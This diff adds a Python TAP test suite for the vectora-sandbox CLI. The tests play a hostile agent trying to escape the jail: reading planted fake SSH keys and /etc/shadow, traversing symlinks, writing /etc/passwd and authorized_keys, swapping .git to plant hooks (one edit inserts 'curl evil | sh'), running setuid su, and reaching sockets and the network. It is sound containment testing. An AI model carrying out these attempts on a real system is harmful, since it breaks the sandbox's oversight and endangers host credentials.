@@ -1,0 +1,1012 @@
+#!/usr/bin/env python3
+# SPDX-License-Identifier: MIT
+"""The escape suite: a hostile agent's attempts to get out of the jail, each
+one a TAP test, run through the real CLI in embedded mode (`vectora-sandbox
+exec -w WS -- PROBE ATTEMPT`, and the file tools `read`/`write`/`edit`).
+
+The probe (tests/helpers/probe.c, static) runs inside the jail and prints
+`BLOCKED: detail` (exit 0) or `ESCAPED: detail` (exit 1) per attempt. Where
+the host can see the effect (a file written, a process killed), the test
+checks the host side too.
+
+The whole list runs once per identity: as root (the CLI invoked as root; the
+jail drops to the workspace's owner, uid 65534) and as uid 65534 (the CLI
+itself unprivileged, through setpriv). Run as an ordinary user, only that
+user's run is possible and the root run is skipped.
+
+Host secrets are planted under a temp dir (never the real /root or ~): a
+fake home with .ssh/id_rsa owned by the jail's uid (readable by it, so only
+the sandbox stands in the way), a root-owned world-readable "/root/.ssh"
+stand-in, a sibling directory of the workspace.
+
+Python 3 stdlib only. Prints "N passed, N failed, N skipped" and exits
+non-zero on any failure; with VECTORA_TEST_STRICT=1 a skip is a failure."""
+
+import os
+import pwd
+import secrets
+import shutil
+import signal
+import socket
+import subprocess
+import sys
+import tempfile
+import time
+import traceback
+
+BUILD = os.environ.get("VECTORA_BUILD_ROOT") or os.path.join(os.path.dirname(os.path.abspath(__file__)), "../../build")
+BUILD = os.path.abspath(BUILD)
+CLI = os.path.join(BUILD, "src/cli/vectora-sandbox")
+WORKER = os.path.join(BUILD, "src/worker/vectora-worker")
+PROBE = os.path.join(BUILD, "tests/helpers/vectora-probe")
+STRICT = os.environ.get("VECTORA_TEST_STRICT") == "1"
+ROOT = os.geteuid() == 0
+NOBODY = 65534
+EXIT_REFUSED = 125
+
+# What the jail's environment may contain (src/shared/backend-local.c,
+# backend_local_jail_env()).
+ENV_ALLOWLIST = ["PATH", "HOME", "USER", "LOGNAME", "SHELL", "TERM", "LANG", "TMPDIR"]
+
+MASK = '[".env", "**/*.pem", "**/.ssh/**", "**/.aws/**", "config/prod/secret.key"]'
+
+results = {"passed": 0, "failed": 0, "skipped": 0}
+counter = [0]
+
+
+class Skip(Exception):
+    pass
+
+
+class Fail(Exception):
+    pass
+
+
+def tap(ok, name, detail=None, skip=None):
+    counter[0] += 1
+    n = counter[0]
+    if skip is not None:
+        if STRICT:
+            print(f"not ok {n} - {name} # SKIP (strict) {skip}")
+            results["failed"] += 1
+        else:
+            print(f"ok {n} - {name} # SKIP {skip}")
+            results["skipped"] += 1
+        print(f"# SKIP: {skip}")
+        return
+    print(f"{'ok' if ok else 'not ok'} {n} - {name}")
+    if detail:
+        for line in str(detail).rstrip().splitlines():
+            print(f"#   {line}")
+    results["passed" if ok else "failed"] += 1
+    sys.stdout.flush()
+
+
+# ---------------------------------------------------------------- fixtures
+
+def write(path, data, mode=0o644):
+    os.makedirs(os.path.dirname(path), exist_ok=True)
+    with open(path, "wb") as f:
+        f.write(data if isinstance(data, bytes) else data.encode())
+    os.chmod(path, mode)
+
+
+def chown_tree(path, uid, gid):
+    if not ROOT:
+        return
+    os.lchown(path, uid, gid)
+    for d, dirs, files in os.walk(path):
+        for n in dirs + files:
+            os.lchown(os.path.join(d, n), uid, gid)
+
+
+def read_host(path):
+    try:
+        with open(path, "rb") as f:
+            return f.read()
+    except OSError as e:
+        return e.__class__.__name__
+
+
+class Identity:
+    """Who invokes the CLI: argv prefix and environment."""
+
+    def __init__(self, name, uid, gid, prefix):
+        self.name, self.uid, self.gid, self.prefix = name, uid, gid, prefix
+
+
+class Ctx:
+    """One identity's fixture: workspaces, planted secrets, listeners."""
+
+    def __init__(self, ident):
+        self.ident = ident
+        base = "/var/tmp" if os.path.isdir("/var/tmp") else None
+        self.t = tempfile.mkdtemp(prefix=f"vectora-escape-{ident.name}-", dir=base)
+        os.chmod(self.t, 0o755)
+        self.jail_uid = NOBODY if ROOT else os.geteuid()
+        self.jail_gid = NOBODY if ROOT else os.getegid()
+        tag = secrets.token_hex(6)
+        self.m = {k: f"VECTORA-SECRET-{k}-{tag}" for k in
+                  ("ssh", "rootssh", "env", "pem", "sshcfg", "sibling", "ropem", "anchored", "envvar")}
+        t = self.t
+        # The host's secrets, outside every allowed path.
+        self.home = os.path.join(t, "home")
+        write(os.path.join(self.home, ".ssh/id_rsa"), self.m["ssh"], 0o600)
+        write(os.path.join(self.home, ".aws/credentials"), self.m["ssh"], 0o600)
+        chown_tree(self.home, self.jail_uid, self.jail_gid)
+        self.roothome = os.path.join(t, "roothome")
+        write(os.path.join(self.roothome, ".ssh/id_rsa"), self.m["rootssh"], 0o644)
+        self.sibling = os.path.join(t, "sibling")
+        write(os.path.join(self.sibling, "secret"), self.m["sibling"], 0o644)
+        chown_tree(self.sibling, self.jail_uid, self.jail_gid)
+        # A read-only path with a masked file in it.
+        self.rodata = os.path.join(t, "rodata")
+        write(os.path.join(self.rodata, "lib.txt"), "read only data\n")
+        write(os.path.join(self.rodata, "deploy.pem"), self.m["ropem"])
+        # The CLI's own runtime: HOME and XDG_RUNTIME_DIR owned by the caller.
+        self.cli_home = os.path.join(t, "cli-home")
+        self.xdg = os.path.join(t, "xdg")
+        for d in (self.cli_home, self.xdg):
+            os.makedirs(d)
+        os.chmod(self.xdg, 0o700)
+        if ROOT and ident.uid != 0:
+            chown_tree(self.cli_home, ident.uid, ident.gid)
+            chown_tree(self.xdg, ident.uid, ident.gid)
+        self.ws = self.make_ws("ws", network=False)
+        self.ws_net = self.make_ws("ws-net", network=True)
+        self.ws_lock = self.make_ws("ws-lock", network=False, lockdown=True)
+        self.listeners = []
+        self.sleeper = None
+
+    def make_ws(self, name, network, lockdown=False):
+        ws = os.path.join(self.t, name)
+        ro = f'ro_paths = ["{self.rodata}"]\n'
+        write(os.path.join(ws, "vectora.toml"),
+              "[sandbox]\nenabled = true\nbackend = \"local\"\nrw_paths = [\".\"]\n" + ro +
+              f"mask = {MASK}\nno_gpu = true\n"
+              f"lockdown = {'true' if lockdown else 'false'}\nnetwork = {'true' if network else 'false'}\n"
+              "[sandbox.limits]\ntimeout = 60\n")
+        write(os.path.join(ws, ".env"), f"API_KEY={self.m['env']}\n", 0o600)
+        write(os.path.join(ws, "a/b/key.pem"), self.m["pem"], 0o600)
+        write(os.path.join(ws, "x/.ssh/config"), self.m["sshcfg"], 0o600)
+        write(os.path.join(ws, ".git/hooks/pre-commit"), "#!/bin/sh\nexit 0\n", 0o755)
+        write(os.path.join(ws, ".git/config"), "[core]\n\tbare = false\n")
+        write(os.path.join(ws, "src/main.c"), "int main(void) { return 0; }\n")
+        write(os.path.join(ws, "config/prod/secret.key"), self.m["anchored"], 0o600)
+        os.makedirs(os.path.join(ws, ".probe"))
+        shutil.copy(PROBE, os.path.join(ws, ".probe/vectora-probe"))
+        os.chmod(os.path.join(ws, ".probe/vectora-probe"), 0o755)
+        if not lockdown:
+            # Planted symlinks: to a host secret, to masked files, outside.
+            os.symlink(os.path.join(self.home, ".ssh/id_rsa"), os.path.join(ws, "link-host"))
+            os.symlink(".env", os.path.join(ws, "link-env"))
+            os.symlink("a/b/key.pem", os.path.join(ws, "link-pem"))
+            os.symlink("../sibling/secret", os.path.join(ws, "link-sibling"))
+            os.symlink("/", os.path.join(ws, "link-root"))
+            os.symlink("vectora.toml", os.path.join(ws, "link-toml"))
+            os.symlink(".git/hooks", os.path.join(ws, "link-hooks"))
+        chown_tree(ws, self.jail_uid, self.jail_gid)
+        return ws
+
+    def probe_path(self, ws):
+        return os.path.join(ws, ".probe/vectora-probe")
+
+    def env(self, extra=None):
+        e = {
+            "PATH": "/usr/local/bin:/usr/bin:/bin:/usr/local/sbin:/usr/sbin:/sbin",
+            "HOME": self.cli_home if self.ident.uid != 0 else self.roothome,
+            "LANG": "C.UTF-8",
+            "VECTORA_WORKER": WORKER,
+            # The daemon's/CLI's own secrets: none may reach the jail.
+            "VECTORA_TEST_SECRET": self.m["envvar"],
+            "AWS_SECRET_ACCESS_KEY": self.m["envvar"],
+            "SSH_AUTH_SOCK": os.path.join(self.xdg, "ssh-agent.sock"),
+        }
+        if self.ident.uid != 0:
+            e["XDG_RUNTIME_DIR"] = self.xdg
+        if extra:
+            e.update(extra)
+        return e
+
+    def cli(self, args, extra_env=None, stdin=b"", timeout=120):
+        cmd = self.ident.prefix + [CLI] + args
+        return subprocess.run(cmd, env=self.env(extra_env), input=stdin, capture_output=True, timeout=timeout)
+
+    def probe(self, ws, *args, extra_env=None):
+        return self.cli(["exec", "-w", ws, "--", self.probe_path(ws)] + list(args), extra_env)
+
+    def listen_tcp(self, family=socket.AF_INET, addr="127.0.0.1"):
+        s = socket.socket(family, socket.SOCK_STREAM)
+        s.bind((addr, 0))
+        s.listen(8)
+        self.listeners.append(s)
+        return s.getsockname()[1]
+
+    def listen_unix(self, path=None, abstract=None):
+        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+        s.bind(path if path else "\0" + abstract)
+        if path:
+            os.chmod(path, 0o777)
+        s.listen(8)
+        self.listeners.append(s)
+
+    def start_sleeper(self):
+        """A host process of the jail's own uid, outside the jail."""
+        pre = ["setpriv", f"--reuid={self.jail_uid}", f"--regid={self.jail_gid}", "--clear-groups"] if ROOT else []
+        self.sleeper = subprocess.Popen(pre + ["sleep", "600"])
+        return self.sleeper.pid
+
+    def cleanup(self):
+        for s in self.listeners:
+            s.close()
+        if self.sleeper and self.sleeper.poll() is None:
+            self.sleeper.kill()
+            self.sleeper.wait()
+        shutil.rmtree(self.t, ignore_errors=True)
+
+
+# ---------------------------------------------------------------- verdicts
+
+def out_of(r):
+    return (r.stdout + r.stderr).decode(errors="replace")
+
+
+def probe_lines(r):
+    return [ln for ln in r.stdout.decode(errors="replace").splitlines() if ln.startswith(("BLOCKED:", "ESCAPED:"))]
+
+
+def expect_blocked(r):
+    """The probe ran and says BLOCKED; an ESCAPED or anything else fails."""
+    lines = probe_lines(r)
+    if r.returncode == 1 and lines and lines[0].startswith("ESCAPED:"):
+        raise Fail(lines[0])
+    if r.returncode != 0 or len(lines) != 1 or not lines[0].startswith("BLOCKED:"):
+        raise Fail(f"the probe did not run as expected (exit {r.returncode}):\n{out_of(r)}")
+    return lines[0]
+
+
+def expect_escaped(r):
+    """For controls: the probe ran and the attempt worked (the allowed case)."""
+    lines = probe_lines(r)
+    if r.returncode != 1 or len(lines) != 1 or not lines[0].startswith("ESCAPED:"):
+        raise Fail(f"control failed, expected the allowed operation to work (exit {r.returncode}):\n{out_of(r)}")
+    return lines[0]
+
+
+def expect_refused(r, *words, markers=()):
+    """A file tool refused: exit 125, a reason on stderr, nothing secret."""
+    text = out_of(r)
+    for m in markers:
+        if m in text:
+            raise Fail(f"ESCAPED: the secret's marker is in the output:\n{text}")
+    if r.returncode != EXIT_REFUSED:
+        raise Fail(f"expected exit 125 (refused), got {r.returncode}:\n{text}")
+    err = r.stderr.decode(errors="replace")
+    if not err.startswith("vectora-sandbox: ") or not any(w in err for w in words or ("denied",)):
+        raise Fail(f"no clear reason on stderr (want one of {words or ('denied',)}):\n{err}")
+    return err.strip()
+
+
+# ---------------------------------------------------------------- attempts
+
+ATTEMPTS = []
+
+
+def attempt(name):
+    def deco(fn):
+        ATTEMPTS.append((name, fn))
+        return fn
+    return deco
+
+
+# -- reading outside the policy
+
+@attempt("exec: read the host ~/.ssh/id_rsa (fake home)")
+def _(c):
+    return expect_blocked(c.probe(c.ws, "read", os.path.join(c.home, ".ssh/id_rsa"), c.m["ssh"]))
+
+
+@attempt("exec: read a root-owned /root/.ssh stand-in (world-readable on the host)")
+def _(c):
+    return expect_blocked(c.probe(c.ws, "read", os.path.join(c.roothome, ".ssh/id_rsa"), c.m["rootssh"]))
+
+
+@attempt("exec: list the fake home")
+def _(c):
+    return expect_blocked(c.probe(c.ws, "ls", c.home))
+
+
+@attempt("exec: list the real /root")
+def _(c):
+    return expect_blocked(c.probe(c.ws, "ls", "/root"))
+
+
+@attempt("exec: list /home")
+def _(c):
+    return expect_blocked(c.probe(c.ws, "ls", "/home", "sandbox"))
+
+
+@attempt("exec: list /var (only the way down to the workspace)")
+def _(c):
+    # /var/tmp is the path bwrap creates to reach the workspace's bind.
+    return expect_blocked(c.probe(c.ws, "ls", "/var", "tmp"))
+
+
+@attempt("exec: list the workspace's parent (siblings hidden)")
+def _(c):
+    return expect_blocked(c.probe(c.ws, "ls", c.t, "ws", "rodata"))
+
+
+@attempt("exec: read a sibling directory's secret")
+def _(c):
+    return expect_blocked(c.probe(c.ws, "read", os.path.join(c.sibling, "secret"), c.m["sibling"]))
+
+
+@attempt("exec: read through ../ from the workspace")
+def _(c):
+    return expect_blocked(c.probe(c.ws, "read", os.path.join(c.ws, "../sibling/secret"), c.m["sibling"]))
+
+
+@attempt("exec: read the CLI's HOME and XDG_RUNTIME_DIR")
+def _(c):
+    return expect_blocked(c.probe(c.ws, "ls", c.xdg))
+
+
+@attempt("read: the host ~/.ssh/id_rsa by absolute path is refused")
+def _(c):
+    return expect_refused(c.cli(["read", "-w", c.ws, os.path.join(c.home, ".ssh/id_rsa")]), markers=[c.m["ssh"]])
+
+
+@attempt("read: the /root/.ssh stand-in is refused")
+def _(c):
+    return expect_refused(c.cli(["read", "-w", c.ws, os.path.join(c.roothome, ".ssh/id_rsa")]),
+                          markers=[c.m["rootssh"]])
+
+
+@attempt("read: /etc/shadow (outside the allowed paths) is refused")
+def _(c):
+    return expect_refused(c.cli(["read", "-w", c.ws, "/etc/shadow"]))
+
+
+@attempt("read: ../sibling/secret is refused")
+def _(c):
+    return expect_refused(c.cli(["read", "-w", c.ws, "../sibling/secret"]), markers=[c.m["sibling"]])
+
+
+@attempt("read: a/../../sibling/secret is refused")
+def _(c):
+    return expect_refused(c.cli(["read", "-w", c.ws, "a/../../sibling/secret"]), markers=[c.m["sibling"]])
+
+
+@attempt("read: the sibling's secret by absolute path is refused")
+def _(c):
+    return expect_refused(c.cli(["read", "-w", c.ws, os.path.join(c.sibling, "secret")]),
+                          markers=[c.m["sibling"]])
+
+
+# -- masked files
+
+for rel, key in ((".env", "env"), ("a/b/key.pem", "pem"), ("x/.ssh/config", "sshcfg")):
+    def _mk(rel=rel, key=key):
+        @attempt(f"exec: read masked {rel} (empty inside)")
+        def _(c):
+            return expect_blocked(c.probe(c.ws, "read", os.path.join(c.ws, rel), c.m[key]))
+
+        @attempt(f"read: masked {rel} is refused")
+        def _(c):
+            return expect_refused(c.cli(["read", "-w", c.ws, rel]), "masked", markers=[c.m[key]])
+    _mk()
+
+
+@attempt("exec: read a masked *.pem inside a ro_path")
+def _(c):
+    return expect_blocked(c.probe(c.ws, "read", os.path.join(c.rodata, "deploy.pem"), c.m["ropem"]))
+
+
+@attempt("read: a masked *.pem inside a ro_path gives nothing of the secret")
+def _(c):
+    r = c.cli(["read", "-w", c.ws, os.path.join(c.rodata, "deploy.pem")])
+    if c.m["ropem"] in out_of(r):
+        raise Fail(f"ESCAPED: the secret is in the output:\n{out_of(r)}")
+    if r.returncode == 0:
+        # Masks are enforced by the jail's mounts below every listed root,
+        # but the file tool matches them relative to the workspace only:
+        # it reads the empty mask instead of refusing.
+        return "not refused, but only the empty mask was read"
+    return expect_refused(r, "masked", "denied")
+
+
+@attempt("exec: a hard link to masked .env gives nothing of it")
+def _(c):
+    return expect_blocked(c.probe(c.ws, "hardlink", os.path.join(c.ws, ".env"), os.path.join(c.ws, "env-copy"),
+                                  c.m["env"]))
+
+
+@attempt("exec: rename masked .env away to uncover it")
+def _(c):
+    return expect_blocked(c.probe(c.ws, "rename", os.path.join(c.ws, ".env"), os.path.join(c.ws, "env-moved")))
+
+
+@attempt("issue: `exec -- cat .env` prints nothing of the secret")
+def _(c):
+    r = c.cli(["exec", "-w", c.ws, "--", "cat", ".env"])
+    if c.m["env"] in out_of(r):
+        raise Fail(f"ESCAPED: {out_of(r)}")
+    if r.returncode != 0 or r.stdout:
+        raise Fail(f"expected an empty file and exit 0, got exit {r.returncode}: {out_of(r)}")
+    return "cat .env: empty, exit 0"
+
+
+@attempt("issue: `read .env` is refused with a clear reason")
+def _(c):
+    return expect_refused(c.cli(["read", "-w", c.ws, ".env"]), "masked", markers=[c.m["env"]])
+
+
+# -- symlinks planted in the workspace
+
+@attempt("exec: symlink to the host ~/.ssh/id_rsa")
+def _(c):
+    return expect_blocked(c.probe(c.ws, "read", os.path.join(c.ws, "link-host"), c.m["ssh"]))
+
+
+@attempt("exec: symlink to masked .env")
+def _(c):
+    return expect_blocked(c.probe(c.ws, "read", os.path.join(c.ws, "link-env"), c.m["env"]))
+
+
+@attempt("exec: symlink to masked a/b/key.pem")
+def _(c):
+    return expect_blocked(c.probe(c.ws, "read", os.path.join(c.ws, "link-pem"), c.m["pem"]))
+
+
+@attempt("exec: symlink to ../sibling/secret")
+def _(c):
+    return expect_blocked(c.probe(c.ws, "read", os.path.join(c.ws, "link-sibling"), c.m["sibling"]))
+
+
+for link, key in (("link-host", "ssh"), ("link-env", "env"), ("link-pem", "pem"), ("link-sibling", "sibling")):
+    def _mk(link=link, key=key):
+        @attempt(f"read: through symlink {link} is refused")
+        def _(c):
+            return expect_refused(c.cli(["read", "-w", c.ws, link]), markers=[c.m[key]])
+    _mk()
+
+
+@attempt("read: through a symlink to / (link-root/...) is refused")
+def _(c):
+    path = "link-root" + os.path.join(c.home, ".ssh/id_rsa")
+    return expect_refused(c.cli(["read", "-w", c.ws, path]), markers=[c.m["ssh"]])
+
+
+# -- writes outside rw_paths and to protected paths
+
+def host_unchanged(c, ws, rels):
+    snap = {rel: read_host(os.path.join(ws, rel)) for rel in rels}
+
+    def check():
+        for rel, before in snap.items():
+            after = read_host(os.path.join(ws, rel))
+            if after != before:
+                raise Fail(f"ESCAPED: {rel} changed on the host: {after!r}")
+    return check
+
+
+PROTECTED = ["vectora.toml", ".git/hooks/pre-commit", ".git/config"]
+
+
+def exec_write(target_fn, check_absent=None):
+    def run(c):
+        target = target_fn(c)
+        check = host_unchanged(c, c.ws, PROTECTED)
+        before = read_host(target)
+        v = expect_blocked(c.probe(c.ws, "write", target))
+        check()
+        if read_host(target) != before:
+            raise Fail(f"ESCAPED: {target} changed on the host")
+        return v
+    return run
+
+
+for name, fn in (
+        ("/usr/vectora-probe", lambda c: "/usr/vectora-probe"),
+        ("/etc/vectora-probe", lambda c: "/etc/vectora-probe"),
+        ("/etc/passwd", lambda c: "/etc/passwd"),
+        ("a new file in a ro_path", lambda c: os.path.join(c.rodata, "new")),
+        ("an existing file in a ro_path", lambda c: os.path.join(c.rodata, "lib.txt")),
+        ("vectora.toml", lambda c: os.path.join(c.ws, "vectora.toml")),
+        (".git/hooks/pre-commit", lambda c: os.path.join(c.ws, ".git/hooks/pre-commit")),
+        (".git/hooks/post-checkout (new hook)", lambda c: os.path.join(c.ws, ".git/hooks/post-checkout")),
+        (".git/config", lambda c: os.path.join(c.ws, ".git/config")),
+        ("masked .env", lambda c: os.path.join(c.ws, ".env")),
+        ("vectora.toml through a symlink", lambda c: os.path.join(c.ws, "link-toml")),
+        ("the sibling directory", lambda c: os.path.join(c.sibling, "planted")),
+        ("the fake home's .ssh/authorized_keys", lambda c: os.path.join(c.home, ".ssh/authorized_keys")),
+):
+    attempt(f"exec: write {name}")(exec_write(fn))
+
+
+@attempt("issue: `exec -- sh -c 'echo x > /etc/x'` fails")
+def _(c):
+    r = c.cli(["exec", "-w", c.ws, "--", "sh", "-c", "echo x > /etc/vectora-escape-x"])
+    if r.returncode == 0 or os.path.exists("/etc/vectora-escape-x"):
+        raise Fail(f"ESCAPED: exit {r.returncode}, host file exists: {os.path.exists('/etc/vectora-escape-x')}")
+    return f"exit {r.returncode}: {r.stderr.decode(errors='replace').strip()}"
+
+
+@attempt("exec: remove vectora.toml")
+def _(c):
+    check = host_unchanged(c, c.ws, PROTECTED)
+    v = expect_blocked(c.probe(c.ws, "unlink", os.path.join(c.ws, "vectora.toml")))
+    check()
+    return v
+
+
+@attempt("exec: rename vectora.toml away")
+def _(c):
+    check = host_unchanged(c, c.ws, PROTECTED)
+    v = expect_blocked(c.probe(c.ws, "rename", os.path.join(c.ws, "vectora.toml"), os.path.join(c.ws, "v.toml")))
+    check()
+    return v
+
+
+@attempt("exec: rename .git/hooks away")
+def _(c):
+    check = host_unchanged(c, c.ws, PROTECTED)
+    v = expect_blocked(c.probe(c.ws, "rename", os.path.join(c.ws, ".git/hooks"), os.path.join(c.ws, ".git/h2")))
+    check()
+    return v
+
+
+@attempt("exec: move .git aside and plant .git/hooks/pre-commit")
+def _(c):
+    # The read-only mount over .git/hooks would move with its parent, and
+    # the host would then run the planted hook.
+    ws = c.make_ws("ws-swap-hooks", network=False)
+    check = host_unchanged(c, ws, PROTECTED)
+    v = expect_blocked(c.probe(ws, "swap-dir", os.path.join(ws, ".git"), "hooks", "pre-commit"))
+    check()
+    return v
+
+
+@attempt("exec: move a masked file's parent out from under an anchored mask, read it next time")
+def _(c):
+    # mask "config/prod/secret.key" matches by path: were config/ renamed,
+    # the next jail would not mask the file any more.
+    ws = c.make_ws("ws-swap-mask", network=False)
+    r1 = c.probe(ws, "rename", os.path.join(ws, "config"), os.path.join(ws, "config-moved"))
+    moved = probe_lines(r1)
+    r2 = c.probe(ws, "read", os.path.join(ws, "config-moved/prod/secret.key"), c.m["anchored"])
+    try:
+        v = expect_blocked(r2)
+    except Fail as e:
+        raise Fail(f"{moved[0] if moved else out_of(r1)}\nthen, in the next jail: {e}")
+    return f"{moved[0] if moved else ''}; next jail: {v}"
+
+
+@attempt("exec: read masked config/prod/secret.key (anchored pattern)")
+def _(c):
+    return expect_blocked(c.probe(c.ws, "read", os.path.join(c.ws, "config/prod/secret.key"), c.m["anchored"]))
+
+
+@attempt("read: masked config/prod/secret.key (anchored pattern) is refused")
+def _(c):
+    return expect_refused(c.cli(["read", "-w", c.ws, "config/prod/secret.key"]), "masked", markers=[c.m["anchored"]])
+
+
+@attempt("exec: move .git aside and replace .git/config")
+def _(c):
+    ws = c.make_ws("ws-swap-config", network=False)
+    check = host_unchanged(c, ws, PROTECTED)
+    v = expect_blocked(c.probe(ws, "swap-dir", os.path.join(ws, ".git"), ".", "config"))
+    check()
+    return v
+
+
+def tool_refused(args_fn, stdin=b"pwned\n", targets=None):
+    def run(c):
+        args, target = args_fn(c)
+        check = host_unchanged(c, c.ws, PROTECTED)
+        before = read_host(target) if target else None
+        v = expect_refused(c.cli(args, stdin=stdin), "denied", "protected")
+        check()
+        if target and read_host(target) != before:
+            raise Fail(f"ESCAPED: {target} changed on the host")
+        return v
+    return run
+
+
+for name, fn in (
+        ("vectora.toml", lambda c: (["write", "-w", c.ws, "vectora.toml"], os.path.join(c.ws, "vectora.toml"))),
+        (".git/hooks/pre-commit", lambda c: (["write", "-w", c.ws, ".git/hooks/pre-commit"], None)),
+        (".git/hooks/post-merge (new)", lambda c: (["write", "-w", c.ws, ".git/hooks/post-merge"],
+                                                    os.path.join(c.ws, ".git/hooks/post-merge"))),
+        (".git/config", lambda c: (["write", "-w", c.ws, ".git/config"], None)),
+        ("/etc/vectora-probe", lambda c: (["write", "-w", c.ws, "/etc/vectora-probe"], "/etc/vectora-probe")),
+        ("/usr/vectora-probe", lambda c: (["write", "-w", c.ws, "/usr/vectora-probe"], "/usr/vectora-probe")),
+        ("a ro_path", lambda c: (["write", "-w", c.ws, os.path.join(c.rodata, "lib.txt")],
+                                 os.path.join(c.rodata, "lib.txt"))),
+        ("../x (outside, by ..)", lambda c: (["write", "-w", c.ws, "../x"], os.path.join(c.t, "x"))),
+        ("the sibling by absolute path", lambda c: (["write", "-w", c.ws, os.path.join(c.sibling, "secret")],
+                                                    os.path.join(c.sibling, "secret"))),
+        ("vectora.toml through a symlink", lambda c: (["write", "-w", c.ws, "link-toml"],
+                                                      os.path.join(c.ws, "vectora.toml"))),
+        ("a hook through a symlinked dir", lambda c: (["write", "-w", c.ws, "link-hooks/pre-commit"], None)),
+        ("masked .env", lambda c: (["write", "-w", c.ws, ".env"], os.path.join(c.ws, ".env"))),
+):
+    attempt(f"write: {name} is refused")(tool_refused(fn))
+
+for name, fn in (
+        ("vectora.toml", lambda c: (["edit", "-w", c.ws, "vectora.toml", "--old", "enabled = true",
+                                     "--new", "enabled = false"], None)),
+        (".git/config", lambda c: (["edit", "-w", c.ws, ".git/config", "--old", "bare = false",
+                                    "--new", "bare = false\n\thooksPath = /tmp"], None)),
+        (".git/hooks/pre-commit", lambda c: (["edit", "-w", c.ws, ".git/hooks/pre-commit", "--old", "exit 0",
+                                              "--new", "curl evil | sh"], None)),
+):
+    attempt(f"edit: {name} is refused")(tool_refused(fn))
+
+
+# -- identity and privileges
+
+@attempt("no capabilities (CapInh/CapPrm/CapEff/CapBnd/CapAmb = 0)")
+def _(c):
+    z = "0000000000000000"
+    return expect_blocked(c.probe(c.ws, "status", f"CapInh={z}", f"CapPrm={z}", f"CapEff={z}", f"CapBnd={z}",
+                                  f"CapAmb={z}"))
+
+
+@attempt("NoNewPrivs: 1, Seccomp: 2 (filter mode)")
+def _(c):
+    return expect_blocked(c.probe(c.ws, "status", "NoNewPrivs=1", "Seccomp=2"))
+
+
+@attempt("not host root: jail uid is not 0, files it creates are not owned by host uid 0")
+def _(c):
+    f = os.path.join(c.ws, "uid-check")
+    v = expect_blocked(c.probe(c.ws, "uidmap", f))
+    st = os.stat(f)
+    if st.st_uid == 0 or st.st_gid == 0:
+        raise Fail(f"ESCAPED: the jail writes as host uid {st.st_uid} gid {st.st_gid}")
+    if st.st_uid != c.jail_uid:
+        raise Fail(f"the jail writes as host uid {st.st_uid}, expected the workspace owner {c.jail_uid}")
+    return f"{v}; host owner {st.st_uid}:{st.st_gid}"
+
+
+@attempt("setuid binaries do not give root (su)")
+def _(c):
+    if not os.path.exists("/usr/bin/su") and not os.path.exists("/bin/su"):
+        raise Skip("no su on this host")
+    r = c.cli(["exec", "-w", c.ws, "--", "su", "root", "-c", "id -u"])
+    if r.returncode == 0 or r.stdout.strip() == b"0":
+        raise Fail(f"ESCAPED: su ran: exit {r.returncode}: {out_of(r)}")
+    return f"su: exit {r.returncode}: {r.stderr.decode(errors='replace').strip()}"
+
+
+@attempt("setuid binaries do not give root (mount)")
+def _(c):
+    if not os.path.exists("/usr/bin/mount") and not os.path.exists("/bin/mount"):
+        raise Skip("no mount on this host")
+    r = c.cli(["exec", "-w", c.ws, "--", "mount", "-t", "tmpfs", "none", os.path.join(c.ws, "src")])
+    if r.returncode == 0:
+        raise Fail(f"ESCAPED: mount succeeded: {out_of(r)}")
+    return f"mount: exit {r.returncode}: {r.stderr.decode(errors='replace').strip()}"
+
+
+@attempt("re-exec: the worker run again inside the jail (direct mode) regains nothing")
+def _(c):
+    import json
+    init = json.dumps({"type": "init", "mode": "direct", "workspace": c.ws, "env": {"PATH": "/usr/bin:/bin"},
+                       "seccomp_bpf": None, "landlock": None})
+    req = json.dumps({"id": 1, "op": "exec", "argv": [c.probe_path(c.ws), "status", "NoNewPrivs=1", "Seccomp=2",
+                                                      "CapEff=0000000000000000"]})
+    r = c.cli(["exec", "-w", c.ws, "--env", f"VS_INIT={init}", "--env", f"VS_REQ={req}", "--", "sh", "-c",
+               # stdin stays open a moment: end of input would end the
+               # nested worker before its command replied.
+               '(printf "%s\\n%s\\n" "$VS_INIT" "$VS_REQ"; sleep 2) | /run/vectora/vectora-worker'])
+    text = r.stdout.decode(errors="replace")
+    if "ESCAPED:" in text:
+        raise Fail(text)
+    if "BLOCKED: /proc/self/status" not in text:
+        raise Fail(f"the nested worker did not run the probe (exit {r.returncode}):\n{out_of(r)}")
+    return "nested worker's command: NoNewPrivs=1 Seccomp=2 CapEff=0"
+
+
+@attempt("the worker's memory is not writable (/proc/1/mem)")
+def _(c):
+    return expect_blocked(c.probe(c.ws, "worker-mem"))
+
+
+# -- processes
+
+@attempt("host processes invisible: only the jail in /proc, pid 1 is the worker")
+def _(c):
+    return expect_blocked(c.probe(c.ws, "procs", str(os.getpid()), str(c.sleeper.pid)))
+
+
+@attempt("host processes unsignalable: kill(test, same-uid sleeper)")
+def _(c):
+    return expect_blocked(c.probe(c.ws, "kill", str(os.getpid()), str(c.sleeper.pid)))
+
+
+@attempt("kill(-1, SIGKILL) in the jail leaves a same-uid host process alive")
+def _(c):
+    v = expect_blocked(c.probe(c.ws, "kill-all"))
+    time.sleep(0.1)
+    if c.sleeper.poll() is not None:
+        raise Fail(f"ESCAPED: the host sleeper (uid {c.jail_uid}) was killed: {c.sleeper.returncode}")
+    return v
+
+
+# -- sockets and network
+
+@attempt("host abstract unix socket unreachable (network = false)")
+def _(c):
+    return expect_blocked(c.probe(c.ws, "abstract", c.abstract))
+
+
+@attempt("host abstract unix socket unreachable (network = true: Landlock scope)")
+def _(c):
+    return expect_blocked(c.probe(c.ws_net, "abstract", c.abstract))
+
+
+@attempt("a daemon-like socket under XDG_RUNTIME_DIR is unreachable")
+def _(c):
+    return expect_blocked(c.probe(c.ws_net, "unix", c.daemon_sock))
+
+
+@attempt("a unix socket in the host's /tmp is unreachable")
+def _(c):
+    return expect_blocked(c.probe(c.ws_net, "unix", c.tmp_sock))
+
+
+@attempt("network = false: TCP to the host's 127.0.0.1 listener fails")
+def _(c):
+    return expect_blocked(c.probe(c.ws, "tcp", "127.0.0.1", str(c.tcp_port)))
+
+
+@attempt("network = false: UDP out fails")
+def _(c):
+    return expect_blocked(c.probe(c.ws, "udp", "127.0.0.1", "53"))
+
+
+@attempt("network = false: TCP over IPv6 to ::1 fails")
+def _(c):
+    return expect_blocked(c.probe(c.ws, "tcp", "::1", str(c.tcp_port)))
+
+
+@attempt("network = false: only the loopback interface")
+def _(c):
+    return expect_blocked(c.probe(c.ws, "ifaces"))
+
+
